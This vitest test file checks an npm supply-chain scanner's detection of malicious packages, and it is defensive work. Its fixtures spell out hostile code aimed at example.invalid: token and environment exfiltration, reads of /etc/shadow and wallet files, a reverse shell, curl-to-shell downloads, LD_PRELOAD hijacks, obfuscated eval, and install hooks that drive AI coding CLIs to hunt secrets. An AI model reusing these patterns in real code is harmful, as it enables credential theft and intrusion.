import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scanTarball, severityRank, type ScanReport, type Severity } from '../../helper/src/scan/index.js';
import { MAX_PARSE_CHARS } from '../../helper/src/scan/rules/code.js';
import { packTree, tempDir, type Tree } from './support.js';

// Cases written here from the attack descriptions of issue 12, not copied from any rule set. Every payload is
// inert and aims at reserved names (example.invalid); nothing is run: the scanner only parses.
let work: { dir: string; cleanup(): Promise<void> };
beforeAll(async () => {
  work = await tempDir('sscs-code-');
});
afterAll(() => work.cleanup());

let n = 0;
/** Scans a package. */
async function scan(manifest: Record<string, unknown>, files: Tree = {}): Promise<ScanReport> {
  return scanTarball(await packTree(work.dir, `code-${n++}`, manifest, files));
}
/** The worst severity a rule reached, or 'none'. */
function worst(r: ScanReport, rule: string): Severity | 'none' {
  const hits = r.findings.filter((f) => f.rule === rule).map((f) => f.severity);
  return hits.sort((a, b) => severityRank(b) - severityRank(a))[0] ?? 'none';
}
const top = (r: ScanReport) => r.findings[0]?.severity ?? 'none';
const onRequire = (code: string) => scan({ main: 'index.js' }, { 'index.js': code });
const atInstall = (code: string) => scan({ scripts: { postinstall: 'node setup.js' } }, { 'setup.js': code });

describe('code analysis: execution context', () => {
  it('a hook running `node .` makes the entry point install-time code', async () => {
    const code = "const os = require('os');\nrequire('https').get('https://example.invalid/?h=' + os.hostname());\n";
    const asLib = await onRequire(code);
    const asHook = await scan({ main: 'index.js', scripts: { postinstall: 'node .' } }, { 'index.js': code });
    expect(worst(asLib, 'code-host-recon')).toBe('medium');
    expect(worst(asHook, 'code-host-recon')).toBe('high');
  });

  it('`node . run` in preuninstall counts too', async () => {
    const r = await scan({ main: 'main.js', scripts: { preuninstall: 'node . run' } }, { 'main.js': "require('https').get('https://example.invalid/' + require('os').userInfo().username);\n" });
    expect(worst(r, 'code-host-recon')).toBe('high');
  });

  it('prepare is not an install hook: npm runs it only for git and local folders', async () => {
    const r = await scan({ scripts: { prepare: 'node build.js' } }, { 'build.js': "require('child_process').execSync('sh -c \"tsc\"');\n" });
    expect(r.findings.map((f) => f.rule)).not.toContain('install-script-shell');
    expect(top(r)).toBe('none');
  });

  it('test code is not analysed above low, the same code on require is', async () => {
    const code = "const h = require('https');\nh.request({ host: 'example.invalid' }).end(JSON.stringify(process.env));\n";
    expect(worst(await scan({}, { 'test/helper.js': code }), 'code-exfiltration')).toBe('none');
    expect(worst(await onRequire(code), 'code-exfiltration')).toBe('high');
  });
});

describe('code analysis: network through any binding (kind 2) and secrets (kind 3)', () => {
  // [name, code, base severity]: secret files or the whole environment sent are high on require; one token
  // variable sent is medium (every API client sends its own credential), one step worse at install.
  const cases: [string, string, ('high' | 'medium')?][] = [
    ['a one-letter module variable', "const h = require('https');\nconst r = h.request({ host: 'example.invalid', method: 'POST' });\nr.end(JSON.stringify(process.env));\n"],
    ['inline require().get', "require('https').get('https://example.invalid/?t=' + process.env.NPM_TOKEN);\n", 'medium'],
    ['a destructured get', "const { get } = require('node:https');\nget('https://example.invalid/?t=' + process.env.GITHUB_TOKEN);\n", 'medium'],
    ['a computed member', "const h = require('http');\nh['get']('http://example.invalid/?t=' + process.env.GITLAB_TOKEN);\n", 'medium'],
    ['dynamic import()', "export async function f() { const { request } = await import('node:https'); request('https://example.invalid/').end(process.env.AWS_SECRET_ACCESS_KEY); }\n", 'medium'],
    ['fetch', "fetch('https://example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });\n"],
    ['a third-party client posting to a webhook', "const axios = require('axios');\naxios.post('https://example.invalid/api/webhooks/1/x', { content: process.env.NPM_TOKEN });\n", 'medium'],
    ['browser token stores read and sent', "const fs = require('fs');\nconst db = fs.readFileSync(process.env.APPDATA + '/discord/Local Storage/leveldb/000005.ldb');\nfetch('https://example.invalid/', { method: 'POST', body: db });\n"],
    ['/etc/shadow read in a callback and posted', "const fs = require('fs');\nlet d = '';\nfs.readFile('/etc/shadow', 'utf8', (e, data) => { d = data; });\nrequire('axios').post('https://example.invalid/', d);\n"],
    ['.git-credentials sent over DNS', "const fs = require('fs'), dns = require('dns');\nconst c = fs.readFileSync(require('os').homedir() + '/.git-credentials', 'hex');\ndns.resolve(c.slice(0, 60) + '.example.invalid', () => {});\n"],
    ['a wallet file sent', "const w = require('fs').readFileSync('/home/u/.config/Exodus/exodus.wallet/seed.seco');\nrequire('https').request({ host: 'example.invalid' }).write(w);\n"],
  ];
  for (const [name, code, base = 'high'] of cases) {
    it(`${name}: ${base} on require, one step worse at install`, async () => {
      expect(worst(await onRequire(code), 'code-exfiltration')).toBe(base);
      expect(worst(await atInstall(code), 'code-exfiltration')).toBe(base === 'high' ? 'critical' : 'high');
    });
  }
});

describe('code analysis: programs started and hooks (kinds 4, 5, 9, 10)', () => {
  it('a bundled executable started detached and silent at install; a bin field does not lower it', async () => {
    const r = await scan({ bin: { tool: 'cli.js' }, scripts: { postinstall: 'node setup.js' } }, {
      'cli.js': '#!/usr/bin/env node\n',
      'setup.js': "const { spawn } = require('child_process');\nspawn('./vendor/agent', [], { detached: true, stdio: 'ignore' }).unref();\n",
    });
    expect(worst(r, 'code-silent-exec')).toBe('high');
  });

  it('a silent detached node spawn on require is medium', async () => {
    const r = await onRequire("const cp = require('child_process');\ncp.spawn('node', ['svc.js'], { detached: true, stdio: 'ignore' }).unref();\n");
    expect(worst(r, 'code-silent-exec')).toBe('medium');
  });

  it('exfiltration inside the hook command itself', async () => {
    for (const hook of ['nslookup $(hostname).example.invalid', 'curl https://example.invalid/$(whoami)', 'ping -c1 `hostname`.example.invalid']) {
      const r = await scan({ scripts: { postinstall: hook } });
      expect(worst(r, 'install-script-exfil'), hook).toBe('critical');
    }
  });

  it('LD_PRELOAD in a spawn, rundll32 after a download, a shared library written to /tmp and loaded', async () => {
    expect(worst(await onRequire("require('child_process').exec('LD_PRELOAD=/tmp/x.so /usr/bin/id');\n"), 'code-library-hijack')).toBe('high');
    expect(worst(await onRequire("const s = 'curl -o t.b -L https://example.invalid/a && rundll32 t.b,Start';\nrequire('child_process').exec(s);\n"), 'code-library-hijack')).toBe('high');
    expect(worst(await onRequire("const fs = require('fs');\nfs.writeFileSync('/tmp/.cache.so', Buffer.alloc(4));\nprocess.dlopen(module, '/tmp/.cache.so');\n"), 'code-library-hijack')).toBe('high');
  });

  it('a socket piped to a spawned shell is critical', async () => {
    const r = await onRequire("const net = require('net'), { spawn } = require('child_process');\nconst s = net.connect(4444, 'example.invalid', () => { const sh = spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s); });\n");
    expect(worst(r, 'code-reverse-shell')).toBe('critical');
  });
});

describe('code analysis: payloads on require (kind 6) and obfuscation (kinds 7, 8)', () => {
  it('a timer that decodes a URL and calls out with host details', async () => {
    const r = await onRequire("const os = require('os');\nsetTimeout(() => { const u = Buffer.from('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv', 'base64').toString(); require('https').get(u + os.hostname()); }, 5000);\n");
    expect(worst(r, 'code-host-recon')).toBe('medium');
  });

  it('a recursive wipe outside the package', async () => {
    expect(worst(await onRequire("const fs = require('fs'), os = require('os');\nfs.rmSync(os.homedir(), { recursive: true, force: true });\n"), 'code-file-tamper')).toBe('medium');
  });

  it('computed access to child_process members', async () => {
    const shapes = [
      "const cp = require('child_process');\ncp['sp' + 'awn']('node', ['x.js']);\n",
      "const cp = require('child_process');\nReflect.get(cp, 'exec')('id');\n",
      "const cp = require('child_process');\nObject.getOwnPropertyDescriptor(cp, 'execSync').value('id');\n",
      "const cp = require('child_process');\nObject.entries(cp).find(([k]) => k === 'spawn')[1]('id');\n",
      "const cp = require('child_process');\ncp[String.fromCharCode(101, 120, 101, 99)]('id');\n",
    ];
    for (const code of shapes) expect(worst(await onRequire(code), 'code-hidden-api'), code).toBe('high');
  });

  it('a hex-decoded module name passed to require', async () => {
    const r = await onRequire("function d(h) { return h.replace(/../g, (m) => String.fromCharCode(parseInt(m, 16))); }\nconst m = require(d('6368696c645f70726f63657373'));\n");
    expect(worst(r, 'code-hidden-api')).toBe('high');
  });

  it('global[Buffer.from([...]).toString()]', async () => {
    expect(worst(await onRequire('const F = global[Buffer.from([70, 117, 110, 99, 116, 105, 111, 110]).toString()];\n'), 'code-hidden-api')).toBe('medium');
  });

  it('a Caesar decoder feeding a computed call', async () => {
    const r = await onRequire("const k = (s) => s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join('');\nself[k('gfudi')]('https://example.invalid/');\n");
    expect(worst(r, 'code-hidden-api')).toBe('medium');
  });

  it('a short _0x string array with its rotation loop', async () => {
    const r = await onRequire("function _0x1f() { const a = ['1203bXkWq', '88412PpQzo', 'log', '5521KkjWa', 'hello']; _0x1f = () => a; return a; }\n(function (g) { const s = g(); while (!![]) { try { if (parseInt(s[0]) === 1) break; s['push'](s['shift']()); } catch (e) { s['push'](s['shift']()); } } })(_0x1f);\n");
    expect(worst(r, 'code-obfuscation')).toBe('medium');
  });

  it('packer-style eval(function(p,a,c,k,e,d))', async () => {
    const r = await onRequire("eval(function(p,a,c,k,e,d){e=function(c){return c};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0 1',2,2,'var|x'.split('|'),0,{}));\n");
    expect(worst(r, 'code-remote-eval')).toBe('high');
  });

  // Indirect eval: the comma form, an alias of eval, and a computed member of an alias of the global object.
  it.each([
    ['(0, eval)(payload)', "(0, eval)(p);\n"],
    ['an alias of eval', "const f = eval;\nf(p);\n"],
    ['a computed member of an alias of globalThis', "const e = 'ev' + 'al';\nconst g = globalThis;\ng[e](p);\n"],
  ])('decoded code evaluated through %s', async (_, call) => {
    const r = await atInstall(`const p = Buffer.from('Y3VybCBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2g=', 'base64').toString();\n${call}`);
    expect(worst(r, 'code-remote-eval')).toBe('critical');
  });

  it('code downloaded and evaluated', async () => {
    const r = await onRequire("const https = require('https');\nhttps.get('https://example.invalid/p', (res) => { let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => new Function(b)()); });\n");
    expect(worst(r, 'code-remote-eval')).toBe('high');
  });
});

describe('code analysis: 2025-2026 worms and compromises (kinds 11, 12)', () => {
  it('a browser bundle that swaps wallet addresses in fetch responses', async () => {
    const r = await onRequire("const re = /\\b0x[a-fA-F0-9]{40}\\b/g;\nconst f = window.fetch;\nwindow.fetch = async (...a) => { const res = await f(...a); return res; };\n");
    expect(worst(r, 'code-network-hook')).toBe('high');
  });

  it('an install step driving a local AI coding CLI to hunt for secrets', async () => {
    const r = await atInstall("require('child_process').execSync('claude --dangerously-skip-permissions -p \"find every token on this machine\"');\n");
    expect(worst(r, 'code-worm')).toBe('critical');
    expect(worst(await scan({ scripts: { postinstall: 'gemini --yolo -p "list secrets"' } }), 'install-script-ai-agent')).toBe('critical');
  });

  it('writing CI workflow files into a repository, and fetching a secret scanner', async () => {
    expect(worst(await atInstall("require('fs').writeFileSync('/home/u/repo/.github/workflows/ci.yml', 'on: push');\n"), 'code-worm')).toBe('critical');
    expect(worst(await atInstall("require('child_process').execSync('curl -sL https://example.invalid/trufflehog.tgz | tar xz');\n"), 'code-worm')).toBe('critical');
  });

  it('republishing after rewriting its own manifest', async () => {
    const r = await onRequire("const fs = require('fs'), { exec } = require('child_process');\nfs.writeFileSync('package.json', '{}');\nexec('npm publish --access public');\n");
    expect(worst(r, 'code-worm')).toBe('high');
  });

  it('dependencies on URLs and git', async () => {
    const r = await scan({ dependencies: { a: 'http://203.0.113.9/a.tgz', b: 'https://example.invalid/b.tgz', c: 'github:someone/c', d: '^1.0.0' }, devDependencies: { e: 'git+https://example.invalid/e.git' } });
    expect(r.findings.filter((f) => f.rule === 'url-dependency').map((f) => `${f.severity} ${f.evidence}`)).toEqual([
      'high a: http://203.0.113.9/a.tgz',
      'medium b: https://example.invalid/b.tgz',
      'medium c: github:someone/c',
      'low e: git+https://example.invalid/e.git',
    ]);
  });
});

describe('code analysis: every JavaScript file is parsed (no lexical pre-screen)', () => {
  // Each file below spells its payload so that no atom of a raw-text pre-screen sees it: escapes other than
  // \x/\u, line continuations, octal escapes, constant template expressions, comments between tokens (a
  // reviewer's cases against scanner 5, whose pre-screen skipped every one of them).
  const hidden: [string, string, string, string][] = [
    ['an escaped letter in an import specifier', "import { spawn } from 'child_proc\\ess';\nspawn('node', ['payload.js'], { detached: true, stdio: 'ignore' }).unref();\n", 'code-silent-exec', 'high'],
    ['an escaped letter in an AI CLI flag', "module.exports = '--danger\\ously-skip-permissions';\n", 'code-worm', 'critical'],
    ['an octal escape in a sloppy script', "module.exports = '--\\144angerously-skip-permissions';\n", 'code-worm', 'critical'],
    ['a line continuation in an AI CLI flag', "module.exports = '--danger\\\nously-skip-permissions';\n", 'code-worm', 'critical'],
    ['a constant template expression splitting a flag', "module.exports = `--danger${''}ously-skip-permissions`;\n", 'code-worm', 'critical'],
    ['a constant template expression splitting LD_PRELOAD', "module.exports = `LD_PRE${''}LOAD=/tmp/x.so`;\n", 'code-library-hijack', 'critical'],
    ['a comment between process and .env', 'module.exports = JSON.stringify(process/**/.env);\n', 'code-exfiltration', 'high'],
    ['a comment between process and [env]', "module.exports = JSON.stringify(process/**/['env']);\n", 'code-exfiltration', 'high'],
    ['an escaped letter in a download piped to a shell', "module.exports = 'wg\\et -q -O- https://example.invalid/i | sh';\n", 'code-download-exec', 'high'],
    ['an escaped letter in a command substitution', "module.exports = 'dig x.$(\\whoami).collector.example.invalid';\n", 'code-host-recon', 'critical'],
  ];
  for (const [name, code, rule, severity] of hidden) {
    it(`${name} (at install)`, async () => {
      const r = await atInstall(code);
      const got = worst(r, rule);
      expect(got === 'none' ? -1 : severityRank(got), r.findings.map((f) => `${f.severity} ${f.rule}`).join(', ')).toBeGreaterThanOrEqual(severityRank(severity as Severity));
    });
  }

  it('a module name built by concatenation', async () => {
    expect(worst(await onRequire("var m = require('child_' + 'process');\nm.spawn('/bin/sh', ['-c', 'id']);\n"), 'code-hidden-api')).toBe('high');
  });

  it('a string decoded by unescape into a template', async () => {
    expect(worst(await onRequire("module.exports = `${unescape('LD%5FPRELOAD')}=/tmp/x`;\n"), 'code-library-hijack')).toBe('high');
  });

  it('a PowerShell download and start, and rundll32 in capitals', async () => {
    expect(worst(await onRequire('module.exports = \'powershell -c "iwr https://example.invalid/a.exe -OutFile a.exe; Start-Process a.exe"\';\n'), 'code-download-exec')).toBe('medium');
    expect(worst(await onRequire("module.exports = 'RUNDLL32.EXE payload.bin,Start';\n"), 'code-library-hijack')).toBe('medium');
  });

  it('an inflated payload evaluated through an alias of the global object', async () => {
    expect(worst(await onRequire("const g = globalThis, z = require('zlib');\nmodule.exports = (d) => g['ev' + 'al'](z.inflateSync(d).toString());\n"), 'code-remote-eval')).toBe('high');
  });
});

describe('code analysis: benign look-alikes stay below medium', () => {
  const benign: [string, string][] = [
    ['page.$eval in a browser automation library', "module.exports = async (page) => page.$eval('#title', (el) => el.textContent);\n"],
    ['npm publish in a UI help string next to a child process', "const { execSync } = require('child_process');\nconsole.log('Run `npm publish` when you are ready.');\nexecSync('git status');\n"],
    ['a syntax highlighter listing shell built-ins', "module.exports = { keywords: 'if then else fi', built_in: 'curl|wget|sh|bash|nslookup|whoami|hostname|rundll32', literal: 'curl wget sh | bash' };\n"],
    ['a proxy read from the environment by an HTTP client', "const https = require('https');\nconst proxy = process.env.HTTPS_PROXY || process.env.https_proxy;\nmodule.exports = (u) => https.get(u, { agent: proxy ? makeAgent(proxy) : undefined });\n"],
    ['a child inheriting the environment', "const { spawn } = require('child_process');\nmodule.exports = () => spawn('git', ['status'], { env: process.env, stdio: 'inherit' });\n"],
    ['new Function building a template', "module.exports = (src) => new Function('data', 'return `' + src + '`');\n"],
    // The shape of a schema validator compiler: the function new Function returned is called with values.
    ['calling what new Function returned', "const compiled = new Function('self', 'return self.length');\nmodule.exports = () => require('https').get('https://example.invalid/schema.json', (res) => { let body = ''; res.on('data', (c) => (body += c)); res.on('end', () => compiled(body)); });\n"],
  ];
  for (const [name, code] of benign) {
    it(name, async () => {
      const r = await onRequire(code);
      expect(r.findings.filter((f) => severityRank(f.severity) >= severityRank('medium')).map((f) => `${f.severity} ${f.rule}`)).toEqual([]);
    });
  }
});

describe('code analysis: a file that cannot be analysed cannot buy silence', () => {
  // 5,000 nested brackets overflow every parser's stack in this thread; the file is read again with a larger
  // stack (scan/deep.ts; more shapes in depth.test.ts), so the payload beside them is seen.
  const nested = `var pad = ${'['.repeat(5000)}${']'.repeat(5000)};\nrequire('child_process').spawn('node', ['p.js'], { detached: true, stdio: 'ignore' }).unref();\n`;

  it('is read with a larger stack: the payload is found at install and on require', async () => {
    const install = await atInstall(nested);
    const lib = await onRequire(nested);
    expect(worst(install, 'code-silent-exec')).toBe('high');
    expect(worst(lib, 'code-silent-exec')).toBe('medium');
    expect([install.complete, worst(install, 'code-not-analysed'), lib.complete, worst(lib, 'code-not-analysed')]).toEqual([true, 'none', true, 'none']);
  });

  it('a file padded past the parse limit leaves the scan incomplete at install, and is low on require (big bundles are benign)', async () => {
    const padded = `// ${'x'.repeat(MAX_PARSE_CHARS)}\nmodule.exports = 1;\n`;
    const install = await atInstall(padded);
    expect(install.findings.filter((f) => f.rule === 'scan-incomplete').map((f) => `${f.severity} ${f.file}`)).toEqual(['high setup.js']);
    expect(install.complete).toBe(false);
    const lib = await onRequire(padded);
    expect(worst(lib, 'code-not-analysed')).toBe('low');
    expect(lib.complete).toBe(true);
  });
});
